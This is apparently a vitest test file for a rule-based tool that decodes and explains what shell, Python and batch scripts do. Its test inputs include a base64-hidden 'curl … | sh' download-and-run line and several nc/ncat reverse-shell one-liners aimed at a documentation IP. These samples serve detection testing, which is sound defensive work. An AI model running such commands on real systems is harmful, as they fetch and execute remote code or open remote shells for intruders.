import { expect, test } from 'vitest'
import { runFileTool } from '../../../../../test/run-file-tool.ts'
import { explainScript } from './explain-script.ts'
import type { ScriptResult } from './script-result.ts'
import { scriptTool } from './script-tool.ts'

async function explained(script: string, kind: 'shell' | 'python' | 'batch') {
  const report = await runFileTool(scriptTool, new TextEncoder().encode(script), {
    types: [{ kind, mime: 'text/plain', label: kind }],
  })
  return explainScript({ data: report.data as ScriptResult, left_out: report.left_out })
}

test('an explanation tells the layers and what they do in order, and that it is derived by rules and not by AI', async () => {
  const hidden = Buffer.from('curl http://a.example/x | sh').toString('base64')
  const text = await explained(`#!/bin/sh\necho ${hidden} | base64 -d | bash\n`, 'shell')
  expect(text).toContain('a shell script of 2 lines')
  expect(text).toContain('decoded by From Base64; “bash” runs it')
  expect(text).toContain('Layer 1, out of line 2, runs what it downloads: “curl http://a.example/x | sh”.')
  expect(text.indexOf('Layer 1 is')).toBeLessThan(text.indexOf('out of line 2, runs'))
  expect(text).toContain('derived from the text by rules, not by AI, and the script was not run')
})

test('a script of which no rule knows anything is not called harmless', async () => {
  const text = await explained('print(1)\n', 'python')
  expect(text).toContain('The rules name nothing that it does.')
  expect(text).toContain('it can still be there')
  expect(text).not.toMatch(/harmless|safe|clean|nothing suspicious/i)
})

test('what was not looked at stands in the explanation', async () => {
  const deep = `x = ${'('.repeat(2000)}1${')'.repeat(2000)}\n`
  expect(await explained(deep, 'python')).toContain(
    'Not understood or not looked at:\nParts of the script were too deep',
  )
})

test.each([
  ['nc -e /bin/sh 203.0.113.7 4444', 'shell'],
  ['nc 203.0.113.7 4444 -e /bin/bash', 'shell'],
  ['ncat --exec "/usr/bin/bash" 203.0.113.7 4444', 'shell'],
  ['nc.exe -nv 203.0.113.7 4444 -e cmd.exe', 'batch'],
] as const)('a listener that hands its shell to another machine is told: %s', async (script, kind) => {
  expect(await explained(script, kind)).toContain('opens a shell to another machine')
})
